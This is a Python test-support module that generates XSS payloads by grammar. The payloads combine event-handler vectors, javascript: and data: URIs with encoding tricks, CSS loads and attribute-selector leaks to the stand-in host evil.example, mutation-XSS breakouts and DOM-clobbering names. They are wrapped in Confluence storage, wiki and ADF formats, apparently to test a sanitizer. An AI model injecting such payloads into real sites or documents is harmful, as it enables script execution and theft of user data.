"""Hostile markup, made by a grammar: every way in that is known, times every way to write it, times every place it could stand.

Nothing is copied from a collection. A collection is a list of what somebody thought of; what combines them finds the rest.
Whatever runs calls `alert`; whatever is loaded comes from `evil.example`.
"""

from collections.abc import Iterator, Mapping
from html import escape
from itertools import product

from tests.documents.given import document, node, words

_CALL = "alert(1)"
_HOST = "//evil.example"

# What can act by itself, and by which attribute.
_ACTING = [
    "img src=x",
    "svg",
    "svg><animate attributeName=x",
    "svg><set attributeName=x",
    "video src=x",
    "video><source src=x",
    "audio src=x",
    "body",
    "html",
    "details open",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "keygen autofocus",
    "marquee",
    "iframe",
    "object data=x",
    "embed src=x",
    "math",
    "form",
    "isindex type=image src=x",
    "link rel=stylesheet href=x",
    "style",
    "script src=x",
    "frameset",
    "bgsound",
    "dialog open",
    "a id=x tabindex=1",
    "p",
    "div contenteditable",
    "table",
    "td",
    "x",
    "image href=x",
    "track src=x default",
    "portal src=x",
    "menu",
]
_EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onfocusin",
    "onblur",
    "ontoggle",
    "onbeforetoggle",
    "onstart",
    "onfinish",
    "onbounce",
    "onmouseover",
    "onmouseenter",
    "onpointerenter",
    "onpointerover",
    "onanimationstart",
    "onanimationend",
    "ontransitionrun",
    "ontransitionend",
    "onbegin",
    "onend",
    "onrepeat",
    "onloadstart",
    "onloadeddata",
    "oncanplay",
    "onprogress",
    "onpageshow",
    "onhashchange",
    "onmessage",
    "onresize",
    "onscroll",
    "onwheel",
    "oncopy",
    "onpaste",
    "ondrag",
    "ondrop",
    "onkeydown",
    "oninput",
    "onchange",
    "onsubmit",
    "onreset",
    "oninvalid",
    "onsearch",
    "onselect",
    "onbeforescriptexecute",
    "onsecuritypolicyviolation",
    "onslotchange",
    "onauxclick",
    "oncontextmenu",
    "ongotpointercapture",
    "onbeforeinput",
    "onscrollend",
]
_CARRIERS = [
    "a:href",
    "area:href",
    "form:action",
    "button:formaction",
    "input:formaction",
    "iframe:src",
    "iframe:srcdoc",
    "frame:src",
    "embed:src",
    "object:data",
    "object:codebase",
    "applet:code",
    "img:src",
    "img:srcset",
    "img:lowsrc",
    "img:dynsrc",
    "image:href",
    "image:xlink:href",
    "source:src",
    "source:srcset",
    "video:src",
    "video:poster",
    "audio:src",
    "track:src",
    "body:background",
    "table:background",
    "td:background",
    "th:background",
    "link:href",
    "script:src",
    "script:href",
    "base:href",
    "meta:content",
    "svg:xlink:href",
    "use:href",
    "use:xlink:href",
    "animate:values",
    "animate:to",
    "set:to",
    "animate:from",
    "feimage:href",
    "a:xlink:href",
    "a:ping",
    "blockquote:cite",
    "q:cite",
    "ins:cite",
    "del:cite",
    "html:manifest",
    "math:href",
    "maction:href",
    "mglyph:src",
    "isindex:action",
    "menuitem:icon",
    "command:icon",
    "head:profile",
    "img:usemap",
    "img:longdesc",
    "portal:src",
    "p:style",
    "div:style",
    "td:style",
    "span:style",
    "a:style",
    "time:datetime",
    "p:is",
    "div:slot",
    "div:popovertarget",
    "a:target",
    "input:form",
]
_SCHEMES = ("javascript", "vbscript", "data", "livescript", "mocha", "blob", "filesystem", "view-source", "jar", "file")
_OPENERS = ("", " ", "\t", "\n", "\x01", "\u00a0", "\ufeff", "\u200b", "\u2028", "//", "/\\", "https:", "url(", "x:")
_NAMES = [
    "body",
    "head",
    "forms",
    "location",
    "cookie",
    "documentElement",
    "getElementById",
    "querySelector",
    "createElement",
    "innerHTML",
    "attributes",
    "children",
    "parentNode",
    "constructor",
    "__proto__",
    "prototype",
    "toString",
    "valueOf",
    "top",
    "self",
    "parent",
    "window",
    "document",
    "defaultView",
    "currentScript",
    "main",
    "content",
    "nav",
    "csrf_token",
    "baseURI",
    "domain",
    "implementation",
]
_PROPERTIES = [
    "background",
    "background-image",
    "list-style",
    "list-style-image",
    "border-image",
    "border-image-source",
    "cursor",
    "content",
    "filter",
    "mask",
    "mask-image",
    "clip-path",
    "behavior",
    "-moz-binding",
    "src",
    "shape-outside",
    "offset-path",
]
_DECLARED = (
    "position:fixed;inset:0;z-index:9",
    "width:expression(alert(1))",
    "--x:url({host}/v)",
    "color:var(--x,url({host}/w))",
    "animation:x 1s",
    "\\62 ackground:url({host}/e)",
    "back/**/ground:url({host}/k)",
    "font-family:x;@import '{host}/i'",
    "background:\\75rl({host}/u)",
    "background:image-set('{host}/s' 1x)",
    "color:red}}*{{background:url({host}/b)",
    "-webkit-mask:url({host}/m)",
)
_SHEETS = (
    "@import '{host}/a';",
    "@import url({host}/b);",
    "@font-face{{font-family:x;src:url({host}/f)}}*{{font-family:x}}",
    "input[value^=a]{{background:url({host}/v)}}",
    "a[href*=page]{{background:url({host}/h)}}",
    "html{{background:url({host}/p)}}",
    "p::first-letter{{content:url({host}/c)}}",
    "@media all{{body{{list-style:url({host}/m)}}}}",
    "@namespace url({host}/n);",
    "x{{behavior:url({host}/x)}}",
)
# Mutation: what a parser reads otherwise the second time. An outer namespace, a point where HTML begins again in it, and an
# element whose content is text in one of the two.
_OUTER = ("svg", "math", "form", "table", "select", "a", "p", "h1", "b", "details", "ul")
_INTEGRATION = [
    "mtext",
    "mi",
    "mo",
    "mn",
    "ms",
    "annotation-xml",
    "foreignObject",
    "desc",
    "title",
    "mglyph",
    "malignmark",
    "table",
    "caption",
    "td",
    "option",
    "font",
    "p",
    "br",
    "style",
]
_RAW = [
    "style",
    "script",
    "noscript",
    "xmp",
    "textarea",
    "title",
    "iframe",
    "noembed",
    "noframes",
    "template",
    "plaintext",
    "listing",
    "select",
]
_BREAKS = (
    "</{raw}><img src=x onerror=alert(1)>",
    "<!--</{raw}><img src=x onerror=alert(1)>-->",
    "<![CDATA[</{raw}><img src=x onerror=alert(1)>]]>",
    "<a title='</{raw}><img src=x onerror=alert(1)>'>x</a>",
    "<p id='</{raw}><svg onload=alert(1)>'>",
    "<!--></{raw}><script>alert(1)</script>",
    "<?x </{raw}><img src=x onerror=alert(1)>?>",
)


def _written(text: str) -> Iterator[str]:
    """Write an address in ways that readers of markup take for the same."""
    yield text
    yield text.upper()
    yield "".join(one.upper() if at % 2 else one for at, one in enumerate(text))
    yield "".join(f"&#{ord(one)};" for one in text)
    yield "".join(f"&#x{ord(one):x};" for one in text)
    yield "".join(f"&#{ord(one):07}" for one in text)
    yield "".join(f"%{ord(one):02x}" for one in text)
    yield text.replace(":", "&colon;")
    yield text.replace(":", "&Tab;:").replace("s", "s&NewLine;")
    yield text[:4] + "\t" + text[4:]
    yield text[:2] + "\n" + text[2:]
    yield text[:3] + "\x00" + text[3:]
    yield text[:3] + "<!-- -->" + text[3:]
    yield text.replace("a", "\uff41").replace(":", "\uff1a")
    yield text.replace("a", "\\u0061")


def _addresses() -> Iterator[str]:
    tails = {"data": "text/html,<script>alert(1)</script>", "data-svg": "image/svg+xml,<svg onload=alert(1)>"}
    for scheme in (*_SCHEMES, "data-svg"):
        yield f"{scheme.partition('-')[0] if scheme in tails else scheme}:{tails.get(scheme, _CALL)}"
    yield f"{_HOST}/x"
    yield f"https:{_HOST}/x"
    yield f"/\\evil.example/{_CALL}"


def markup() -> Iterator[str]:
    """Yield hostile HTML, most of it no XML."""
    for (at, acting), event in product(enumerate(_ACTING), _EVENTS):
        quote = ("", "'", '"', "`")[at % 4]
        gap = (" ", "/", "\t", "\n", "\x0c")[at % 5]
        yield f"<{acting}{gap}{event}={quote}{_CALL}{quote}>x"
    addresses = list(_addresses())
    for at, (carrier, address) in enumerate(product(_CARRIERS, addresses)):
        element, _, attribute = carrier.partition(":")
        for step in (0, 5, 10):
            ways = list(_written(_OPENERS[(at + step) % len(_OPENERS)] + address))
            yield f'<{element} {attribute}="{ways[(at + step) % len(ways)]}">x</{element}>'
    for name, kind in product(_NAMES, ("id", "name")):
        yield f'<form {kind}="{name}"><input {kind}="{name}" /></form><img {kind}="{name}" /><a {kind}="{name}" href="x">x</a>'
    for place, declared in product(("p", "td", "span", "svg", "table"), (*_urls(), *_DECLARED)):
        yield f'<{place} style="{declared.format(host=_HOST)}">x</{place}>'
    for sheet, outer in product(_SHEETS, ("", "svg", "math", "noscript", "template")):
        style = f"<style>{sheet.format(host=_HOST)}</style>"
        yield f"<{outer}>{style}</{outer}>" if outer else style
    for outer, point, raw, broken in product(_OUTER, _INTEGRATION, _RAW, _BREAKS):
        # One of seven at each place, another at the next: all meet each other over the whole.
        if (len(outer) + 3 * len(point) + 5 * len(raw) + len(broken)) % 7 == 0:
            yield f"<{outer}><{point}><{raw}>{broken.format(raw=raw)}</{raw}></{point}></{outer}>"


def _urls() -> Iterator[str]:
    for number, name in enumerate(_PROPERTIES):
        yield f"{name}:url({_HOST}/{number})"
        yield f"{name}:URL('{_HOST}/{number}')"
        yield f'{name} : u\\72l( "{_HOST}/{number}" )'.replace('"', "&quot;")


_IN_STORAGE = (
    "{markup}",
    "<p>{markup}</p>",
    "<table><tbody><tr><td>{markup}</td></tr></tbody></table>",
    "<p>{text}</p>",
    "<h2>{text}</h2>",
    '<p title="{text}"><a href="{text}" id="{text}">x</a></p>',
    (
        "<ac:structured-macro ac:name='info'><ac:parameter ac:name='title'>{text}</ac:parameter><ac:rich-text-body>{markup}"
        "</ac:rich-text-body></ac:structured-macro>"
    ),
    (
        "<ac:structured-macro ac:name='code'><ac:parameter ac:name='language'>html</ac:parameter><ac:plain-text-body>"
        "<![CDATA[{markup}]]></ac:plain-text-body></ac:structured-macro>"
    ),
    "<ac:structured-macro ac:name='html'><ac:plain-text-body><![CDATA[{markup}]]></ac:plain-text-body></ac:structured-macro>",
    (
        "<ac:structured-macro ac:name='expand'><ac:parameter ac:name='title'>{text}</ac:parameter><ac:rich-text-body><p>{text}</p>"
        "</ac:rich-text-body></ac:structured-macro>"
    ),
    (
        "<ac:image ac:alt='{text}' ac:width='{text}' ac:href='{text}'><ri:attachment ri:filename='plan.png'/><ac:caption>{markup}"
        "</ac:caption></ac:image><ac:image><ri:url ri:value='{text}'/></ac:image>"
    ),
    "<ac:link ac:anchor='{text}'><ri:url ri:value='{text}'/><ac:link-body>{markup}</ac:link-body></ac:link>",
    (
        "<ac:structured-macro ac:name='widget'><ac:parameter ac:name='url'><ri:url ri:value='{text}'/></ac:parameter>"
        "</ac:structured-macro><ac:structured-macro ac:name='anchor'><ac:parameter ac:name=''>{text}</ac:parameter>"
        "</ac:structured-macro>"
    ),
    (
        "<ac:task-list><ac:task><ac:task-status>{text}</ac:task-status><ac:task-body>{markup}</ac:task-body></ac:task>"
        "</ac:task-list><ac:emoticon ac:name='{text}' ac:emoji-fallback='{text}'/><time datetime='{text}'/>"
    ),
    (
        "<ac:adf-extension><ac:adf-node type='panel'><ac:adf-attribute key='panel-type'>custom</ac:adf-attribute>"
        "<ac:adf-attribute key='panel-icon-text'>{text}</ac:adf-attribute><ac:adf-content>{markup}</ac:adf-content></ac:adf-node>"
        "</ac:adf-extension><ac:structured-macro ac:name='{text}'/>"
    ),
)
_IN_WIKI = (
    "{text}\nh2. {text}\n* {text}\n|{text}|\n||{text}||",
    "[{text}|https://a.example] [x|{text}] [#{text}] [^{text}] [~{text}]",
    "!{text}! !plan.png|alt={text},width={text}!",
    "{{panel:title={text}|bgColor={text}}}{text}{{panel}}\n{{color:{text}}}x{{color}} {{anchor:{text}}}",
    "{{code:{text}|title={text}}}{text}{{code}}\n{{noformat}}{text}{{noformat}}\n{{html}}{text}{{html}}",
    "{{quote}}{text}{{quote}} *{text}* {{{{{text}}}}} {{status:title={text}}} {{expand:{text}}}{text}{{expand}}",
)


def _some(one_of: int) -> Iterator[str]:
    return (piece for at, piece in enumerate(markup()) if at % one_of == 0)


def storage_bodies() -> Iterator[str]:
    """Yield hostile bodies in storage format, each piece of markup at one place after another."""
    for at, piece in enumerate(markup()):
        yield _IN_STORAGE[at % len(_IN_STORAGE)].replace("{markup}", piece).replace("{text}", escape(piece))


def wiki_texts() -> Iterator[str]:
    """Yield hostile wiki markup."""
    for at, piece in enumerate(_some(5)):
        yield _IN_WIKI[at % len(_IN_WIKI)].replace("{{", "{").replace("}}", "}").replace("{text}", piece)


_KINDS = [
    "paragraph",
    "heading",
    "codeBlock",
    "panel",
    "expand",
    "table",
    "mediaSingle",
    "media",
    "mediaInline",
    "inlineCard",
    "blockCard",
    "embedCard",
    "status",
    "mention",
    "emoji",
    "date",
    "extension",
    "inlineExtension",
    "bodiedExtension",
    "taskList",
    "taskItem",
    "decisionItem",
    "layoutColumn",
    "orderedList",
    "blockquote",
]
_GIVEN = [
    "href",
    "url",
    "text",
    "title",
    "language",
    "panelType",
    "panelIconText",
    "panelColor",
    "color",
    "id",
    "alt",
    "state",
    "layout",
    "shortName",
    "timestamp",
    "extensionKey",
    "background",
    "valign",
    "width",
    "level",
    "order",
    "colspan",
    "type",
    "localId",
    "collection",
]


def adf_documents() -> Iterator[Mapping[str, object]]:
    """Yield hostile documents of ADF: the text in every attribute of one kind of node, and in marks round its text."""
    for at, piece in enumerate(_some(4)):
        attrs = dict.fromkeys(_GIVEN, piece)
        marked = words(piece, *({"type": kind, "attrs": attrs} for kind in ("link", "textColor", "backgroundColor")))
        yield document(node("paragraph", marked), node(_KINDS[at % len(_KINDS)], marked, **attrs))
